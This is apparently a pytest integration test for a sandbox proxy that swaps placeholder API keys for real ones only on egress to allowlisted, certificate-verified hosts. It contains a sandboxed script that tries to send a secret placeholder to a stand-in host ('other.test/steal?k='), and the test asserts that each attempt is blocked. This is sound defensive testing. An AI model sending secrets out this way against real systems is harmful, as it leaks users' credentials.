"""Secrets at egress on real docker and bubblewrap (network mode proxy): an HTTPS server this test starts on
loopback (allowlisted by a CIDR entry, its name resolved there by the test) receives the real value, in a header
and in the body, while the sandbox only ever holds a placeholder (a server echoing the key back echoes the
placeholder); a request carrying the placeholder to another host is refused and recorded; the sandbox's CAs
exist only while it does, their keys never on disk."""

from __future__ import annotations

import datetime
import hashlib
import json
import os
import ssl
import textwrap
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from execbox import BackendUnavailableError, Runner, Secret, Settings, UnsupportedPolicyError
from execbox.kit.proxy import server as px
from execbox.kit.proxy.secrets import BUNDLE_FILE
from execbox.runner import run_blocking
from execbox.testing import engine_missing

pytestmark = pytest.mark.engine

NAME = "OPENAI_API_KEY"
SECRET_HOST, OTHER_HOST = "api.secret.test", "other.test"


class Recorder(BaseHTTPRequestHandler):
    """Records every request (path, headers, body) and answers with what it got, the Authorization echoed."""

    seen: list[dict[str, Any]]

    def _any(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.seen.append({"path": self.path, "headers": dict(self.headers), "body": body})  # type: ignore[attr-defined]
        answer = json.dumps({"auth": self.headers.get("Authorization", ""), "body": body.decode()}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    do_GET = do_POST = _any

    def log_message(self, *args: Any) -> None:
        pass


def serve(tls: ssl.SSLContext | None) -> ThreadingHTTPServer:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    server.seen = []  # type: ignore[attr-defined]
    if tls is not None:
        server.socket = tls.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def upstream_ca(tmp: Path) -> tuple[Path, ssl.SSLContext]:
    """A CA of this test's (the proxy trusts it through CODE_EXEC_CA_BUNDLE) and the server's certificate."""
    now = datetime.datetime.now(datetime.UTC)
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "execbox test upstream CA")])
    ca = (x509.CertificateBuilder().subject_name(ca_name).issuer_name(ca_name).public_key(ca_key.public_key())
          .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(hours=1))
          .not_valid_after(now + datetime.timedelta(days=1))
          .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
          .add_extension(x509.SubjectKeyIdentifier.from_public_key(ca_key.public_key()), critical=False)
          .sign(ca_key, hashes.SHA256()))
    key = ec.generate_private_key(ec.SECP256R1())
    leaf = (x509.CertificateBuilder().subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, SECRET_HOST)]))
            .issuer_name(ca_name).public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(hours=1)).not_valid_after(now + datetime.timedelta(days=1))
            .add_extension(x509.SubjectAlternativeName([x509.DNSName(SECRET_HOST)]), critical=False)
            .add_extension(x509.AuthorityKeyIdentifier.from_issuer_public_key(ca_key.public_key()), critical=False)
            .sign(ca_key, hashes.SHA256()))
    (tmp / "ca.pem").write_bytes(ca.public_bytes(serialization.Encoding.PEM))
    (tmp / "server.pem").write_bytes(leaf.public_bytes(serialization.Encoding.PEM) + key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(tmp / "server.pem")
    return tmp / "ca.pem", ctx


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Any]]:
    ca, tls = upstream_ca(tmp_path)
    secret_server, other_server = serve(tls), serve(None)
    names = {SECRET_HOST: "127.0.0.1", OTHER_HOST: "127.0.0.1"}
    real_resolve = px.resolve

    async def resolve(host: str, port: int) -> list[str]:
        return [names[host]] if host in names else await real_resolve(host, port)

    monkeypatch.setattr(px, "resolve", resolve)
    ports = {"secret": secret_server.server_address[1], "other": other_server.server_address[1]}
    yield {"ca": ca, "secret": secret_server, "other": other_server, "ports": ports}
    for server in (secret_server, other_server):
        server.shutdown()
        server.server_close()


def runner_for(backend: str, world: dict[str, Any]) -> Runner:
    settings = Settings.from_env(
        backend=backend, network="proxy", egress_defaults=False, ca_bundle=world["ca"], local=True,
        egress_allow=[f"{host}:{port}" for port in world["ports"].values() for host in (SECRET_HOST, OTHER_HOST,
                                                                                         "127.0.0.1/32")])
    runner = Runner(settings)
    try:
        run_blocking(runner.aio.backend(backend).check)
    except BackendUnavailableError as exc:
        engine_missing(f"{backend} cannot run here: {exc}")
    return runner


SCRIPT = """
import hashlib, json, os, sys, urllib.error, urllib.request
ph = os.environ["{name}"]
print("placeholder", ph)
req = urllib.request.Request("https://{secret_host}:{secret_port}/v1/chat", data=json.dumps({{"key": ph}}).encode(),
                             headers={{"Authorization": "Bearer " + ph, "Content-Type": "application/json"}})
echo = json.loads(urllib.request.urlopen(req, timeout=30).read())
print("echoed placeholder", echo["auth"] == "Bearer " + ph and json.loads(echo["body"])["key"] == ph)
for what, url, data in (("url", "http://{other_host}:{other_port}/steal?k=" + ph, None),
                        ("body", "http://{other_host}:{other_port}/post", b"x" * 20 + ph.encode()),
                        ("plain-http to its host", "http://{secret_host}:{secret_port}/k?" + ph, None)):
    try:
        urllib.request.urlopen(urllib.request.Request(url, data=data), timeout=30)
        print("exfiltration", what, "went through")
    except urllib.error.HTTPError as exc:
        print("exfiltration", what, "refused", exc.code)
    except OSError as exc:
        print("exfiltration", what, "cut")
"""


@pytest.mark.parametrize("backend", ["docker", "bubblewrap"])
def test_the_host_gets_the_value_the_sandbox_only_a_placeholder(backend: str, world: dict[str, Any]) -> None:
    value = "sk-live-" + hashlib.sha256(os.urandom(16)).hexdigest()[:40]
    ports = world["ports"]
    code = SCRIPT.format(name=NAME, secret_host=SECRET_HOST, other_host=OTHER_HOST, secret_port=ports["secret"],
                         other_port=ports["other"])
    with runner_for(backend, world) as runner, runner.sandbox(backend, network="proxy") as sb:
        proxy_dir = Path(sb.aio._session.egress.directory)  # type: ignore[union-attr]
        at_egress = {NAME: (f"{SECRET_HOST}:{ports['secret']}+body", Secret(value))}  # bodies too: opted in
        result = sb.run_code(textwrap.dedent(code), secrets_at_egress=at_egress, timeout=60)
        on_disk = {p.name: p.read_bytes() for p in proxy_dir.iterdir() if p.is_file()}
    assert result.exit_code == 0, result.stderr
    lines = result.stdout.splitlines()
    placeholder = lines[0].removeprefix("placeholder ")
    assert placeholder.startswith("EXECBOX-PLACEHOLDER-") and len(placeholder) == len(value)
    assert lines[1:] == ["echoed placeholder True", "exfiltration url refused 403",
                         "exfiltration body cut",
                         "exfiltration plain-http to its host refused 403"]
    # The host got the real value, in the header and in the body; never the placeholder.
    [got] = world["secret"].seen
    assert got["headers"]["Authorization"] == f"Bearer {value}" and json.loads(got["body"]) == {"key": value}
    # The other host never saw the placeholder (the body's request was cut before it).
    assert all(placeholder not in json.dumps(r, default=repr) for r in world["other"].seen)
    # Recorded: the substitution (host, name) and each refusal, never a value.
    substituted = [a for a in result.egress if a.secrets and a.allowed]
    assert [(a.host, a.port, a.secrets) for a in substituted] == [(SECRET_HOST, ports["secret"], [NAME])]
    refused = [a for a in result.egress if not a.allowed]
    assert len(refused) == 3 and all("exfiltration attempt" in a.reason and a.secrets == [NAME] for a in refused)
    assert result.secrets == [NAME]
    assert value not in result.model_dump_json()
    # The sandbox's CA: its certificate in the bundle the sandbox trusts, its key nowhere on disk; then gone.
    assert b"BEGIN CERTIFICATE" in on_disk[BUNDLE_FILE] and not any(b"PRIVATE KEY" in d for d in on_disk.values())
    assert not proxy_dir.exists()


def test_secrets_at_egress_need_network_proxy(world: dict[str, Any]) -> None:
    with runner_for("bubblewrap", world) as runner, pytest.raises(UnsupportedPolicyError, match="network mode proxy"):
        runner.run("true", backend="bubblewrap", network="none",
                   secrets_at_egress={NAME: (SECRET_HOST, "sk-live-0123456789")})


def test_code_exec_egress_secrets_takes_the_value_from_execbox_s_environment(
        world: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    value = "sk-env-" + os.urandom(12).hex()
    monkeypatch.setenv(NAME, value)
    monkeypatch.setenv("CODE_EXEC_EGRESS_SECRETS", f"{NAME}={SECRET_HOST}:{world['ports']['secret']}")
    code = (f"import os, urllib.request\nreq = urllib.request.Request('https://{SECRET_HOST}:"
            f"{world['ports']['secret']}/', headers={{'Authorization': os.environ['{NAME}']}})\n"
            "print(urllib.request.urlopen(req, timeout=30).status)\n")
    with runner_for("bubblewrap", world) as runner:
        result = runner.run_code(code, backend="bubblewrap", timeout=60)
    assert result.stdout == "200\n", result.stderr
    assert [r["headers"]["Authorization"] for r in world["secret"].seen] == [value]


def test_a_host_whose_certificate_does_not_verify_gets_nothing(world: dict[str, Any], tmp_path: Path) -> None:
    (tmp_path / "impostor").mkdir()
    _, impostor_tls = upstream_ca(tmp_path / "impostor")
    impostor = serve(impostor_tls)  # a certificate for the right name, from a CA nobody trusts
    port = impostor.server_address[1]
    world["ports"]["impostor"] = port
    code = (f"import os, urllib.request\nreq = urllib.request.Request('https://{SECRET_HOST}:{port}/', "
            f"headers={{'Authorization': os.environ['{NAME}']}})\n"
            "try:\n    urllib.request.urlopen(req, timeout=30)\nexcept OSError as exc:\n    print('failed')\n")
    try:
        with runner_for("bubblewrap", world) as runner:
            result = runner.run_code(code, backend="bubblewrap", timeout=60,
                                     secrets_at_egress={NAME: (f"{SECRET_HOST}:{port}", "sk-live-0123456789abcdef")})
    finally:
        impostor.shutdown()
        impostor.server_close()
    assert result.stdout == "failed\n", result.stderr
    assert impostor.seen == []  # type: ignore[attr-defined]
    [attempt] = [a for a in result.egress if a.port == port]
    assert not attempt.allowed and "did not verify" in attempt.reason


@pytest.mark.parametrize("backend", ["docker", "bubblewrap"])
def test_a_secret_s_host_needs_no_allowlist_entry_of_its_own(backend: str, world: dict[str, Any]) -> None:
    """The README's example set CODE_EXEC_EGRESS_ALLOW too; the secret's host:port is allowed for its run alone
    (the address entry here only lets the proxy reach this test's loopback listener)."""
    port = world["ports"]["secret"]
    value = "sk-live-" + os.urandom(12).hex()
    settings = Settings.from_env(backend=backend, network="proxy", egress_defaults=False, ca_bundle=world["ca"],
                                 local=True, egress_allow=[f"127.0.0.1/32:{port}"])
    code = (f"import os, urllib.request\nreq = urllib.request.Request('https://{SECRET_HOST}:{port}/', "
            f"headers={{'Authorization': os.environ['{NAME}']}})\n"
            "print(urllib.request.urlopen(req, timeout=30).status)\n")
    with Runner(settings) as runner:
        try:
            run_blocking(runner.aio.backend(backend).check)
        except BackendUnavailableError as exc:
            engine_missing(f"{backend} cannot run here: {exc}")
        result = runner.run_code(code, backend=backend, timeout=60,
                                 secrets_at_egress={NAME: (f"{SECRET_HOST}:{port}", value)})
        bare = runner.run_code(code.replace(f"os.environ['{NAME}']", "'x'"), backend=backend, timeout=60)
    assert result.stdout == "200\n", result.stderr
    assert [r["headers"]["Authorization"] for r in world["secret"].seen] == [value]
    [attempt] = result.egress
    assert attempt.allowed and NAME in attempt.reason
    # a run without the secret: the name is not allowed
    assert bare.exit_code != 0 and [(a.host, a.allowed) for a in bare.egress] == [(SECRET_HOST, False)]
